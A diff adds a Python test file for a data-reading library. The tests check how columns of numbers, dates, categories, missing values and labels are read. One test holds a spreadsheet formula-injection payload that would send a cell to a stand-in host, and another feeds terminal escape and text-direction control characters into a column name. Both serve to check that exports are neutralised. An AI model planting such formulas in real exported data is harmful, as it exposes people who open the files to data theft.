@@ -1,0 +1,656 @@
+"""What a table's columns become: numbers, dates, categories and text, classes of each kind, and refusals by row and column."""
+
+import csv
+import io
+from dataclasses import replace
+
+import numpy as np
+import pandas as pd
+import pyarrow as pa
+import pytest
+from cases import each, some
+from hostile_files import parquet
+from own_tables import iris_csv, lines, own_spec, read, read_sniffed, sniff, sniff_file, table, with_pairs
+from test_strangers_files import SMALL, frame
+
+from dsgcore import QSGS2AUC
+from dsgcore.__main__ import main
+from dsgcore.data import DataError, draw_pairs, hide_labels, rows_of
+from dsgcore.data.converting import convert_file, describe_file
+from dsgcore.data.reading import LOCAL, Features, File, Limits, Recipe, Source
+from dsgcore.data.reading.cells import written
+from dsgcore.experiments import load_split
+
+N = 60
+KIND = ["wheat", "rye"] * (N // 2)
+
+
+def points_of(*rows, labels="classes", **given):
+    file = File(Source.of_bytes(lines(*rows), "t.csv"), LOCAL)
+    return file.points(file.recipe(labels, is_asked=True, **given), labels)
+
+
+def rows_of_cells(cells, delimiter=";", n=40):
+    """Return a header, and rows of a price, a number and a label; the prices come again."""
+    join = delimiter.join
+    return [join(("price", "z", "label")), *(join((cells[i % len(cells)], str(i), "ab"[i % 2])) for i in range(n))]
+
+
+NUMBERS = [f"{i},{'ab'[i % 2]}" for i in range(30)]
+# Rows, the names of the features, the first points (those of a column beside each other), words of the report, and options.
+TABLES = {
+    "quotes hold delimiters and line ends": (
+        ['"a","b, c",label', '1,"2",x', '"3","4","y\nz"', "5,6,x", '7,"8",x'],
+        ("a", "b, c"),
+        [[1, 3, 5, 7], [2, 4, 6, 8]],
+    ),
+    "repeated and missing names": (
+        ["a,a,,label", *(f"{i},{i % 3},{i % 5},{'xy'[i % 2]}" for i in range(20))],
+        ("a", "a (2)", "column 3"),
+        [[0, 1, 2, 3, 4], [0, 1, 2, 0, 1], [0, 1, 2, 3, 4]],
+        ["same name", "no name"],
+    ),
+    "an empty column": (
+        ["x,empty,label", *(f"{i},,{'ab'[i % 2]}" for i in range(9))],
+        ("x",),
+        [range(9)],
+        ["holds no value and is left out"],
+    ),
+    **{
+        f"a name such as {name}": ([f"{name},label", *NUMBERS], (shown,), [range(30)])
+        for name, shown in {
+            **{name: name for name in ("[K+]", "{a}", "<x>", "[1]", "{}x", "<b")},
+            "@relation_to": "'@relation_to",
+        }.items()
+    },
+    **{
+        f"thousands as in {cells[0]}": (
+            rows_of_cells(cells),
+            ("price", "z"),
+            [[first, 12.5, 1250000.25, 7], range(40)],
+            ["'price': numbers written like"],
+        )
+        for first, *cells in (
+            (1234.56, "1.234,56", "12,5", "1.250.000,25", "7"),
+            (1234.56, "1,234.56", "12.5", "1,250,000.25", "7"),
+            (1234.56, "1'234.56", "12.5", "1'250'000.25", "7"),
+            (123456.5, "1,23,456.5", "12.5", "12,50,000.25", "7"),
+            (1234.56, "1 234,56", "12,5", "1 250 000,25", "7"),
+        )
+    },
+    "each column with its own mark": (
+        ["german;english;plain;label"]
+        + [
+            f'"{a}";"{b}";{i / 4:g};{"ab"[i % 2]}'
+            for i, (a, b) in enumerate([("1.234,5", "1,234.5"), ("2,5", "2.5")] * 10)
+        ],
+        ("german", "english", "plain"),
+        [[1234.5, 2.5], [1234.5, 2.5], [0, 0.25]],
+    ),
+    "thousands without decimals, in a table of decimal commas": (
+        ["whole;share;label", *(f"{1 + i % 9}.{100 + i};0,{i + 1};{'ab'[i % 2]}" for i in range(20))],
+        ("whole", "share"),
+        [[1100, 2101], [0.1, 0.2]],
+    ),
+    "thousands without decimals, in a table of decimal points": (
+        ["whole,share,label", *(f'"{1 + i % 9},{100 + i}",0.{i + 1},{"ab"[i % 2]}' for i in range(20))],
+        ("whole", "share"),
+        [[1100, 2101], [0.1, 0.2]],
+    ),
+    "brackets with a mark of thousands": (
+        rows_of_cells([f'"({1 + i % 9},{100 + i}.50)"' for i in range(40)], ","),
+        ("price", "z"),
+        [[-1100.5, -2101.5], [0, 1]],
+    ),
+    "dates, truth values, thousands": (
+        ["day;price;smoker;flag;label"]
+        + [
+            f"{1970 + i % 9}-01-01;{['1.850', '986'][i % 2]};{['Yes', 'no', 'YES '][i % 3]};{['T', 'FALSE'][i % 2]};"
+            f"{'Yes' if i % 4 else 'no '}"
+            for i in range(40)
+        ],
+        ("day", "price", "smoker", "flag"),
+        [[0, 365], [1850, 986, 1850], [1, 0, 1], [1, 0]],
+    ),
+    "codes of money in front, and months without a day": (
+        ["pay;month;kind"]
+        + [f"{['EUR 1.250,50', 'CHF 3', '7 USD'][i % 3]};2020-0{1 + i % 3};{KIND[i]}" for i in range(40)],
+        ("pay", "month"),
+        [[1250.5, 3, 7], [18262, 18293, 18322]],
+    ),
+    **{
+        f"{name}, which does not count": (
+            [f"{name},x,kind", *(f"{i * 37 % 11},{i % 5},{KIND[i]}" for i in range(40))],
+            (name, "x"),
+            [[0, 4, 8], [0, 1, 2]],
+        )
+        for name in ("air_quality_index", "heat_index", "covID")
+    },
+}
+
+
+@each("name", TABLES)
+def test_a_table_becomes_points(name):
+    rows, names, columns, *words = TABLES[name]
+    data = points_of(*rows)
+    assert data.feature_names == names
+    assert data.left_out == (("empty",) if "empty" in name else ())
+    for found, column in zip(data.X.T, columns, strict=True):
+        np.testing.assert_allclose(found[: len(column)], column, rtol=1e-6)
+    for word in words[0] if words else ():
+        assert any(word in sentence for sentence in data.report), word
+
+
+@each("cell", ["10.0.{}.1", "12.05.20{}", "v1.{}", "030 123 4{}", "12-{}"])
+def test_what_only_looks_like_numbers_is_left_alone(cell):
+    recipe = sniff(lines(*rows_of_cells([cell.format(10 + i) for i in range(40)])), "a.csv")
+    assert not recipe.role("price").startswith("number")
+    rows = [f"{i},19{10 + i % 9}-{13 + i % 20},{KIND[i]}" for i in range(40)]  # nor are these months
+    assert "dates" not in " ".join(points_of("x,code,kind", *rows).report)
+
+
+def test_pieces_and_runs_read_what_the_whole_does(tmp_path):
+    # The first piece alone would be plain numbers, of another size.
+    cells = ["1.234"] * 20 + ["1.234,5", "1.250.000,25"] * 10
+    content = lines("price;label", *(f"{cell};{'ab'[i % 2]}" for i, cell in enumerate(cells)))
+    recipe = sniff(content, "a.csv", labels="classes")
+    whole = read(content, recipe, labels="classes")
+    assert whole.X[0, 0] == 1234.0
+    (tmp_path / "a.csv").write_bytes(content)
+    assert sniff_file(tmp_path / "a.csv") == recipe
+    convert_file(tmp_path / "a.csv", tmp_path / "out", recipe)
+    file = File.of_path(tmp_path / "out")
+    np.testing.assert_array_equal(file.points(file.recipe("classes"), "classes").X, whole.X)
+    spec, files = own_spec(content, recipe, scaling="none", n_labeled=10)
+    assert load_split(spec, files=files).X_train.max() == np.float32(1250000.25)
+
+
+WRITTEN = {
+    "(1.5)": -1.5,
+    "( 1.5 )": -1.5,
+    "12 %": 0.12,
+    "12%": 0.12,
+    "(12 %)": -0.12,
+    "(12) %": -0.12,
+    "（3）": -3.0,
+    "−3.5": -3.5,
+    "–3": -3.0,
+    "1e−3": 0.001,
+    "-2": -2.0,
+}
+
+
+def csv_of(cells, decimal="."):
+    delimiter = "," if decimal == "." else ";"
+    rows = [delimiter.join((f'"{cell}"', str(i % 7), "xy"[i % 2])) for i, cell in enumerate(cells)]
+    return lines(delimiter.join(("price", "b", "label")), *rows)
+
+
+@each("cell", WRITTEN)
+@each("decimal", [".", ","])
+@each("share", some([1, 3, 20], 1))
+def test_brackets_per_cent_and_unicode_minus_are_read_as_numbers(cell, decimal, share):
+    cells = [cell if i % share == 0 else f"{i}.25" for i in range(40)]
+    content = csv_of([one.replace(".", decimal) for one in cells], decimal)
+    data = read(content, sniff(content, "t.csv"))
+    assert data.feature_names == ("price", "b")
+    is_adorned = cell.endswith(("%", ")", "）"))
+    assert any(f"is read as {WRITTEN[cell]:g}" in sentence for sentence in data.report) == is_adorned
+    expected = [WRITTEN[cell] if i % share == 0 else i + 0.25 for i in range(40)]
+    np.testing.assert_allclose(data.X[:, 0], expected, rtol=1e-6)
+
+
+@each(
+    "first, second, days",
+    [
+        ("25.12.2020", "01.02.2021", (18621, 18659)),
+        ("12/25/2020", "02/01/2021", (18621, 18659)),
+        ("25/12/20", "01/02/21", (18621, 18659)),
+        ("01.02.2021", "03.02.2021", (18659, 18661)),  # that may be either has the order of its sign
+        ("01/02/2021", "03/02/2021", (18629, 18688)),
+        ("31-12-69", "01-01-70", (36524, 0)),
+    ],
+)
+def test_day_and_month_are_told_by_what_is_above_twelve_and_else_by_their_sign(first, second, days):
+    rows = [f"{(first, second)[i % 2]};{i};{'xy'[i % 2]}" for i in range(20)]
+    np.testing.assert_array_equal(points_of("day;b;kind", *rows).X[:2, 0], days)
+
+
+# --- mistakes and missing cells
+
+
+@each("n_bad", [1, 9, 19])
+@each("word", ["#DIV/0!", "#REF!", "#WERT!", "Err:502", "unknown"])
+@each("decimal", [".", ","])
+def test_a_column_that_is_mostly_numbers_is_refused_with_its_mistakes(n_bad, word, decimal):
+    content = csv_of([word if 2 <= i < 2 + n_bad else f"{i}{decimal}5" for i in range(40)], decimal)
+    several = f", the first of {n_bad} cells that are no numbers" if n_bad > 1 else ""
+    error = "" if word == "unknown" else " (a spreadsheet's error)"
+    with pytest.raises(DataError) as caught:
+        read(content, sniff(content, "t.csv"))
+    said = f"column 'price' must hold numbers, got '{word}'{error} in row 3{several}: correct "
+    assert str(caught.value).startswith(said)
+
+
+@each("decimal", [".", ","])
+def test_each_remedy_of_a_mistake_is_an_option_of_the_command(decimal, tmp_path, capsys):
+    file = tmp_path / "t.csv"
+    file.write_bytes(csv_of(["Err:502" if i == 2 else f"{i}{decimal}5" for i in range(40)], decimal))
+    assert main(["data", "describe", str(file)]) == 2
+    assert "must hold numbers, got 'Err:502' (a spreadsheet's error) in row 3: correct " in capsys.readouterr().err
+    for remedy in (["--missing-words", "Err:502"], ["--drop", "price"], ["--category", "price"]):
+        assert main(["data", "describe", str(file), *remedy]) == 0
+
+
+def test_mistakes_are_counted_in_the_whole_file_whatever_its_pieces(tmp_path):
+    (tmp_path / "t.csv").write_bytes(csv_of(["bad" if i % 1000 == 999 else f"{i}.5" for i in range(45_000)]))
+    with pytest.raises(DataError, match="got 'bad' in row 1000, the first of 45 cells that are no numbers"):
+        describe_file(tmp_path / "t.csv")
+
+
+@each("word", some(["NA", "n/a", "<NA>", "null", "#N/A", "NaN", "None", "?", " NA "], 4))
+@each("kind", ["csv", "parquet", "npz"])
+def test_words_that_mean_missing_are_the_same_in_every_format_and_said(word, kind, tmp_path, capsys):
+    own = frame().astype({"label": object})
+    own["label"] = np.where(np.arange(N) % 4 == 0, word, np.where(own.label == 1, "x", "y"))
+    path = tmp_path / f"t.{kind}"
+    if kind == "npz":
+        np.savez(path, X=own[["a", "b"]], y=own.label.to_numpy().astype(str))
+    else:
+        own.to_csv(path, index=False) if kind == "csv" else own.to_parquet(path)
+    assert main(["data", "describe", str(path)]) == 0
+    printed = capsys.readouterr().out
+    said = f"Read as missing labels: 15 cells '{word.strip()}' (in '{'y' if kind == 'npz' else 'label'}')"
+    assert said in printed
+    assert "2 classes" in printed
+    assert main(["data", "describe", str(path), "--missing-words", "-"]) == 0
+    assert "3 classes" in capsys.readouterr().out
+    if kind == "parquet":
+        rows, labels = rows_of(path, "label")
+        assert set(labels.tolist()) == {"x", "y", -1}
+        assert rows.guesses == (f"{said}.",)
+        assert len(set(rows_of(path, "label", missing_words=())[1].tolist())) == 3
+        with pytest.warns(UserWarning, match="Read as missing labels: 15 cells"):
+            QSGS2AUC(**SMALL).fit(path, "label")
+
+
+def test_a_number_can_mean_missing_in_every_format(tmp_path):
+    own = frame().assign(b=np.where(np.arange(N) % 5 == 0, -999, np.arange(N)))
+    own.to_csv(tmp_path / "t.csv", index=False)
+    own.to_parquet(tmp_path / "t.parquet")
+    described = [describe_file(path, sniff_file(path, missing_words=["-999"])) for path in tmp_path.iterdir()]
+    assert [one.missing["b"] for one in described] == [12, 12]
+
+
+@each("missing, filled", [("mean", 3.0), ("median", 2.0), ("most frequent", 1.0), ("drop", None)])
+def test_missing_numbers_are_replaced_or_dropped_and_told(missing, filled):
+    values = [1, 1, 2, 4, 7, None]
+    content = lines("x,z,label", *(f"{'' if v is None else v},{i},{'ab'[i % 2]}" for i, v in enumerate(values)))
+    dataset = read_sniffed(content, missing=missing)
+    assert any("1 missing number in 'x'" in sentence for sentence in dataset.report)
+    assert dataset.X[:, 0].tolist() == values[:-1] + ([] if filled is None else [filled])
+    assert len(dataset.y) == len(dataset.X)
+
+
+def test_what_may_be_a_mistake_is_said():
+    rows = [
+        f"{-999 if i % 5 == 0 else i % 9},{'gone' if i % 2 else ''},{['stay', 'churn'][i % 2]},{i % 4}"
+        for i in range(60)
+    ]
+    report = " ".join(points_of("age,reason,label,x", *rows).report)
+    assert "Does -999 mean missing in 'age'? 12 cells hold it" in report
+    assert "Warning: the column 'reason' gives the label away (it is filled for 'churn' alone)" in report
+    known = points_of("age,reason,label,x", *rows, missing_words=("-999",))
+    assert "12 cells '-999' (in 'age')" in " ".join(known.report)
+    assert known.X[0, 0] > 0
+
+
+def test_gaps_and_categories_that_the_training_rows_do_not_have_are_said():
+    train = pd.DataFrame({"a": [1.0, 2.0, None, 4.0], "b": range(4), "c": list("xyxy"), "kind": list("nmnm")})
+    recipe = File.of_frame(train, "t").recipe("classes", target="kind", is_asked=True)
+    features = Features(recipe, LOCAL).fit(train)
+    assert list(features.unseen(train)) == []
+    assert list(features.unseen(train.assign(b=[0, 1, None, None], c=list("xyzz")))) == [
+        "Missing numbers in 'b', where the training rows had none: replaced by the column's mean over the training rows.",
+        "'c': 'z' were not among the training rows, and count as no category.",
+    ]
+
+
+def test_roles_are_guessed():
+    recipe = sniff(parquet(frame=table()), "a.parquet")
+    guessed = {"id": "index", "color": "category", "when": "date", "note": "text", "key": "ignore", "kind": "label"}
+    assert dict(recipe.roles) == guessed
+    both = "u,a,v\n" + "\n".join(f"{i % 2},{i}.5,{i % 3}" for i in range(30))  # of two that could, the last one
+    assert sniff(both.encode(), "a.csv").column("label") == "v"
+
+
+def test_categories_become_columns_of_zeros_and_ones_unless_they_are_too_many():
+    own = table()
+    own.loc[3, "color"] = None
+    dataset = read_sniffed(parquet(frame=own[["size", "color", "kind"]]))
+    assert dataset.feature_names == ("size", "color: blue", "color: green", "color: red")
+    expected = pd.get_dummies(own["color"])[["blue", "green", "red"]].to_numpy()
+    np.testing.assert_array_equal(dataset.X[:, 1:], expected)
+    assert not dataset.X[3, 1:].any()
+    assert any("3 categories" in sentence and "1 rows without one" in sentence for sentence in dataset.report)
+    content = parquet(frame=pd.DataFrame({"x": [f"v{i}" for i in range(120)], "label": ["a", "b"] * 60}))
+    recipe = Recipe(format="parquet", roles=(("label", "label"), ("x", "category")))
+    with pytest.raises(DataError, match="column 'x' must have at most 50 categories, got 120"):
+        read(content, recipe)
+    assert read(content, recipe, limits=Limits(categories=200)).X.shape == (120, 120)
+
+
+def test_text_and_means_are_learned_from_training_rows_only():
+    own = table()
+    own.loc[::5, "size"] = np.nan
+    content = parquet(frame=own)
+    recipe = replace(sniff(content, "a.parquet"), text_dimensions=4)
+    spec, files = own_spec(content, recipe, scaling="none")
+    split = load_split(spec, files=files)
+    names = read(content, recipe).feature_names
+    assert len([name for name in names if name.startswith("note: direction")]) == 4
+    train, size = own["size"].to_numpy()[split.train_rows], names.index("size")
+    filled = split.X_test[np.isnan(own["size"].to_numpy()[split.test_rows]), size]
+    np.testing.assert_allclose(filled, np.float32(np.nanmean(train)), rtol=1e-6)
+    # Other words in the test rows change no training point.
+    other = own.copy()
+    other.loc[split.test_rows, "note"] = "completely different words here"
+    other.loc[split.test_rows, "size"] = 1e6
+    changed, more = own_spec(parquet(frame=other), recipe, scaling="none")
+    np.testing.assert_array_equal(load_split(changed, files=more).X_train, split.X_train)
+
+
+def with_nested():
+    from decimal import Decimal
+
+    own, flags = frame(), pa.array([None if i == 3 else i % 2 == 0 for i in range(N)])
+    price = pa.array([Decimal(i) / 4 for i in range(N)], pa.decimal128(12, 2))
+    columns = {"price": price, "a": own.a, "label": own.label, "flag": flags, "emb": pa.array([[1.0, 2.0]] * N)}
+    return pa.table({**columns, "s": pa.array([{"u": 1}] * N), "town": ["x", "y"] * (N // 2)})
+
+
+def test_decimals_and_truth_values_are_numbers_and_nested_columns_are_named(tmp_path, capsys):
+    path, plain = tmp_path / "t.parquet", with_nested().drop_columns(["emb", "s", "town"])
+    pa.parquet.write_table(plain, path)
+    rows, _ = rows_of(path, "label", missing="mean")
+    data = read(path.read_bytes(), sniff(path.read_bytes(), path.name))
+    assert rows.names == data.feature_names == ("price", "a", "flag")
+    np.testing.assert_allclose(rows[:], data.X, rtol=1e-6)
+    pa.parquet.write_table(with_nested(), path)
+    rows, _ = rows_of(path, "label")
+    assert rows.names == ("price", "a", "flag", "town: x", "town: y")
+    assert "'emb' (lists or other nested values), 's' (lists or other nested values)" in " ".join(rows.guesses)
+    assert rows_of(path, "label", drop=["emb", "s", "town"])[0].names == ("price", "a", "flag")
+    given = ["--target", "label", "--out", str(tmp_path / "out"), "--quiet", "--set", "n_iter=2"]
+    drop = [word for name in ("emb", "s", "town") for word in ("--drop", name)]
+    assert main(["fit", "QSGS2AUC", str(path), *given, *drop]) == 0
+    assert main(["data", "describe", str(path)]) == 0
+    assert "'emb' (lists or other nested values)" in capsys.readouterr().out
+    pa.parquet.write_table(with_nested().select(["emb", "s", "label"]), path)
+    assert main(["data", "describe", str(path)]) == 2
+    assert "no column of features is left: besides the label, the table has 'emb' (lists" in capsys.readouterr().err
+
+
+@each("wrong", ["lable", "Label", "outcome"])
+def test_a_wrong_label_is_named_with_those_that_there_are(wrong, tmp_path, capsys):
+    path, text = tmp_path / "t.parquet", tmp_path / "t.csv"
+    own = frame().assign(town="x")
+    own.to_parquet(path)
+    own.to_csv(text, index=False)
+    frames = pytest.importorskip("dask.dataframe")
+    hint = "" if wrong == "outcome" else r" \(did you mean 'label'\?\)"
+    for use in (
+        lambda: rows_of(path, wrong),
+        lambda: QSGS2AUC().fit(path, wrong),
+        lambda: sniff_file(text, target=wrong),
+        lambda: rows_of(frames.from_pandas(own, npartitions=2), wrong),
+    ):
+        with pytest.raises(DataError, match=rf"there is no column '{wrong}'{hint}: the table has 'a', 'b', 'label'"):
+            use()
+    assert main(["fit", "QSGS2AUC", str(path), "--target", wrong, "--out", str(tmp_path / "out")]) == 2
+    assert "did you mean" in (errors := capsys.readouterr().err) or wrong == "outcome"
+    assert errors.count("\n") == 1
+
+
+def test_a_label_is_no_feature_and_a_feature_is_named_once():
+    content = lines("a,b,label", *(f"{i},{i * 7 % 11},{'xy'[i % 2]}" for i in range(20)))
+    file = File(Source.of_bytes(content, "t.csv"))
+    for options, said in (
+        ({"features": ["a", "label"]}, "'label' is the label: it can be neither a feature nor left out"),
+        ({"drop": ["label"]}, "'label' is the label"),
+        ({"features": ["a", "b", "a"]}, "must name each column once, got 'a' twice"),
+    ):
+        with pytest.raises(DataError, match=said):
+            file.recipe("classes", target="label", **options)
+
+
+def test_what_a_table_does_not_say_is_asked_for():
+    sparse = [
+        f"{'cat' if i % 3 else ''},{['b', 'c', '', '', '', ''][i % 6]},{['d', 'e', '', '', '', ''][i // 2 % 6]},{i}"
+        for i in range(120)
+    ]
+    with pytest.raises(DataError, match=r"taken from 't', and 'u' could hold them, too: say which \(--target\)"):
+        points_of("s,t,u,x", *sparse)
+    assert points_of("s,t,u,x", *sparse, target="u").class_names == ("d", "e")
+    three = [f"{i % 7},{['Gentoo', 'Adelie', 'Chinstrap'][i % 3]}" for i in range(40)]
+    with pytest.raises(DataError, match="made of 3, needs the positive one named"):
+        points_of("x,species", *three, labels="binary")
+    assert points_of("x,species", *three, labels="binary", positive="Adelie").class_names[1] == "Adelie"
+
+
+# --- names that pages and spreadsheets show
+
+
+def test_formulas_are_text_and_cannot_be_exported_as_formulas():
+    formula = '=HYPERLINK("http://x/?"&A1)'
+    rows = [["=1+1", "@cmd", "-x", "label"]] + [
+        [formula if i % 2 else "+2", i, -i, "=A1" if i % 2 else "-1"] for i in range(20)
+    ]
+    text = io.StringIO()
+    csv.writer(text).writerows(rows)
+    content = text.getvalue().encode()
+    recipe = sniff(content, "a.csv")
+    assert dict(recipe.roles) == {"=1+1": "category", "label": "label"}
+    dataset = read(content, recipe)
+    names = (*dataset.feature_names, *dataset.class_names)
+    assert "'=1+1: 2" in names or "'=1+1: +2" in names
+    assert not any(name.startswith(("=", "+", "@")) for name in names)
+    assert dataset.class_names == ("-1", "'=A1")  # a number is one
+    head = File(Source.of_bytes(content, "a.csv")).table(recipe).head()
+    cells = [*map(str, head.columns), *head.to_numpy().ravel()]
+    assert not any(cell.startswith(("=", "@", "-x")) for cell in cells)
+
+
+BELL = "y\x07"
+
+
+def test_control_characters_never_reach_a_page():
+    content = lines('"a\x1b[2J\u202e\nb",label', *(f"{i},{('x', BELL)[i % 2]}" for i in range(20)))
+    dataset = read_sniffed(content)
+    assert all(name.isprintable() for name in (*dataset.feature_names, *dataset.class_names, *dataset.report))
+
+
+@each(
+    "text, what",
+    [
+        ("[\n  [1, 2],\n  [3, 4]\n]", "JSON, but no records"),
+        ("[1.5, 2, 3]", "JSON, but no records"),
+        ("{}", "JSON, but no records"),
+        ("<!-- a --><html>", "a web page or XML"),
+        ("<html lang='en'>\n<body>\ntext", "a web page or XML"),
+        ("<rows>\n<row>1, 2</row>\n</rows>\n", "a web page or XML"),
+        ("<rows><row>1</row></rows>", "a web page or XML"),
+        ("<?xml version='1.0'?>\nx", "a web page or XML"),
+    ],
+)
+def test_what_is_no_table_is_called_by_its_name(text, what):
+    with pytest.raises(DataError, match=f"the file is {what}; those that can be read are"):
+        sniff(text.encode(), "a.csv")
+
+
+@each("sign", "^~§¦")
+def test_another_sign_between_cells_is_named_with_those_that_are_read(sign):
+    rows = [sign.join(("0.5", str(i), "ab"[i % 2])) for i in range(20)]
+    with pytest.raises(DataError, match=r"seem to be separated by .*, and the delimiter must be one of comma, semi"):
+        sniff(lines(sign.join("xyk"), *rows), "a.csv")
+
+
+LONG = "q" * 100_000
+
+
+@each(
+    "given",
+    [
+        {"bins": LONG},
+        {"roles": {"x": LONG}},
+        {"roles": {LONG: "pair"}},
+        {"positive": LONG},
+        {"order": [LONG]},
+        {LONG: 1},
+    ],
+)
+def test_no_message_repeats_a_page_of_what_was_given(given):
+    content = lines("x,label", *NUMBERS)
+    plain = sniff(content, "a.csv").to_dict() | given | {"roles": {"label": "label"} | given.get("roles", {})}
+    with pytest.raises(DataError) as refused:
+        read(content, Recipe.from_dict(plain), labels="binary")
+    assert len(str(refused.value)) < 400
+
+
+# --- classes
+
+
+def test_empty_labels_stay_unlabeled_and_are_never_used_for_testing():
+    content = lines("x,z,label", *(f"{i},{i * 7 % 11},{'' if i % 3 == 0 else 'ab'[i % 2]}" for i in range(90)))
+    dataset = read_sniffed(content, labels="binary")
+    assert np.sum(dataset.y == -1) == 30
+    assert any("30 rows have no label" in sentence for sentence in dataset.report)
+    split, pairs = hide_labels(dataset, 10, 0.3, seed=0), draw_pairs(dataset, 5, 0.3, seed=0)
+    without = set(np.flatnonzero(dataset.y == -1))
+    assert without <= set(split.train_rows)
+    assert not without & set(split.test_rows)
+    assert len(split.test_rows) == 18
+    for one in (split, pairs):
+        assert np.sum(one.y_hidden == -1) == 30
+        assert np.all(one.y_hidden[one.labeled] >= 0)
+
+
+def test_one_class_against_the_rest():
+    content = iris_csv()
+    recipe = sniff(content, "iris.csv", labels="binary")
+    assert recipe.positive == "setosa"  # the first of the most frequent
+    dataset = read(content, replace(recipe, positive="versicolor"))
+    assert dataset.class_names == ("not versicolor", "versicolor")
+    assert dataset.y.sum() == 50
+    for positive, said in (("rose", "the positive label must be one of"), (None, "needs the positive one named")):
+        with pytest.raises(DataError, match=said):
+            read(content, replace(recipe, positive=positive))
+
+
+def test_forms_of_a_word_are_one_class():
+    data = points_of("x,label", *(f"{i},{'Yes' if i % 4 else 'no '}" for i in range(40)))
+    assert data.class_names == ("Yes", "no")
+
+
+@each("labels, bins", [("binary", 2), ("ordinal", 5), ("classes", 5)])
+def test_a_label_of_many_numbers_is_cut_into_bins(labels, bins):
+    rng = np.random.default_rng(0)
+    content = lines("x,target", *(f"{rng.normal()},{rng.normal():.4f}" for _ in range(100)), "1,")
+    recipe = sniff(content, "a.csv", labels=labels)
+    assert recipe.bins == bins
+    dataset = read(content, recipe, labels=labels)
+    assert np.bincount(dataset.y[:-1]).tolist() == [100 // bins] * bins
+    assert dataset.y[-1] == -1
+    assert any(f"cut into {bins} bins" in sentence for sentence in dataset.report)
+
+
+# Rows below the header, options, the names of the first bins, and their sizes.
+BINS = {
+    "thousands": (";", [f"{1 + i // 10}.{100 + 7 * i},5" for i in range(60)], {}, ("bin 1 (from 1100.5)",), [12] * 5),
+    "a number that means no label": (
+        ",",
+        [f"{-1 if i % 4 == 0 else i + 0.5}" for i in range(100)],
+        {"unlabeled": "-1"},
+        ("bin 1 (from 1.5)",),
+        [15] * 5,
+    ),
+    "equal numbers": (
+        ",",
+        ["-2.30259"] * 60 + [str(i + 0.5) for i in range(40)],
+        {},
+        ("bin 1 (from -2.30259)", "bin 2 (from 0.5)", "bin 3 (from 20.5)"),
+        [60, 20, 20],
+    ),
+}
+
+
+@each("name", BINS)
+def test_bins_hold_equally_many_rows_and_equal_numbers_are_in_one(name):
+    delimiter, cells, given, names, sizes = BINS[name]
+    content = lines(f"x{delimiter}price", *(f"{i}{delimiter}{cell}" for i, cell in enumerate(cells)))
+    data = read(content, replace(sniff(content, "t.csv", labels="ordinal"), **given), labels="ordinal")
+    assert data.class_names[: len(names)] == names
+    assert np.bincount(data.y[data.y >= 0]).tolist() == sizes
+    if name == "equal numbers":
+        assert any("cut into 3 bins" in said and "not 5, because equal values" in said for said in data.report)
+    equal = lines("x,price", *(f"{i},2.5" for i in range(20)))
+    with pytest.raises(DataError, match="cut into bins, must have between 2 and"):
+        read(equal, replace(sniff(equal, "t.csv"), bins=4), labels="ordinal")
+
+
+@each(
+    "value, said",
+    [(3.0, "3"), (2.5, "2.5"), (-0.0, "0"), (3e9, "3000000000"), (2.0**52, "4503599627370496"), (True, "True")],
+)
+def test_a_value_of_a_label_is_written_as_people_write_it(value, said):
+    assert written(value) == said
+
+
+@each(
+    "words",
+    [
+        ["low", "medium", "high"],
+        ["never", "sometimes", "always"],
+        ["<18", "18-30", "31-50", "50+"],
+        ["1 star", "2 stars", "10 stars"],
+        ["[0, 10)", "[10, 100)", "[100, 1000)"],
+        ["F", "D", "C", "B", "A"],
+        ["S", "M", "L", "XL"],
+    ],
+)
+def test_known_orders_are_kept_and_others_are_given_or_asked_for(words):
+    rows = ["x,label", *(f'{i % 9},"{words[i % len(words)]}"' for i in range(40))]
+    data = points_of(*rows, labels="ordinal")
+    assert data.class_names == tuple(words)
+    assert any("the lowest first: " in sentence for sentence in data.report)
+    order = (words[1], *words[2:], words[0])
+    assert points_of(*rows, labels="ordinal", order=order).class_names == order
+    with pytest.raises(DataError, match="must name each class once"):
+        points_of(*rows, labels="ordinal", order=order[1:])
+    colors = ["x,label", *(f"{i % 9},{'rgb'[i % 3]}x" for i in range(40))]
+    with pytest.raises(DataError, match=r"words without a known order, .*--order"):
+        points_of(*colors, labels="ordinal")
+    assert points_of(*colors, labels="ordinal", order=("rx", "gx", "bx")).class_names == ("rx", "gx", "bx")
+
+
+def test_pairs_that_the_file_gives_are_used_and_each_id_is_on_two_rows():
+    content = with_pairs()
+    dataset = read_sniffed(content, labels="pairs")
+    assert dataset.feature_names == ("x", "z")
+    assert dataset.pairs.max() == 11
+    split = draw_pairs(dataset, 8, 0.3, seed=3)
+    ids, counts = np.unique(split.y_train[split.y_train >= 0], return_counts=True)
+    assert (ids.tolist(), set(counts)) == (list(range(8)), {2})
+    for own in ids:
+        assert len(set(dataset.pairs[split.train_rows[split.y_train == own]])) == 1
+    assert np.all(dataset.pairs[split.test_rows] == -1)
+    assert not set(split.test_rows) & set(split.train_rows)
+    # The pairs that were not drawn are set aside: they are no sample of all points.
+    assert len(split.train_rows) + len(split.test_rows) == 60 - 2 * 4
+    with pytest.raises(DataError, match="between 1 and 12"):
+        draw_pairs(dataset, 13, 0.3, seed=3)
+    assert read_sniffed(content, labels="binary").pairs is None
+    with pytest.raises(
+        DataError, match=r"pair id must be on exactly two rows, got 'p00' on 4 \(rows 1, 5, 6, 9, the header"
+    ):
+        read_sniffed(content.replace(b"p01", b"p00"), labels="pairs")
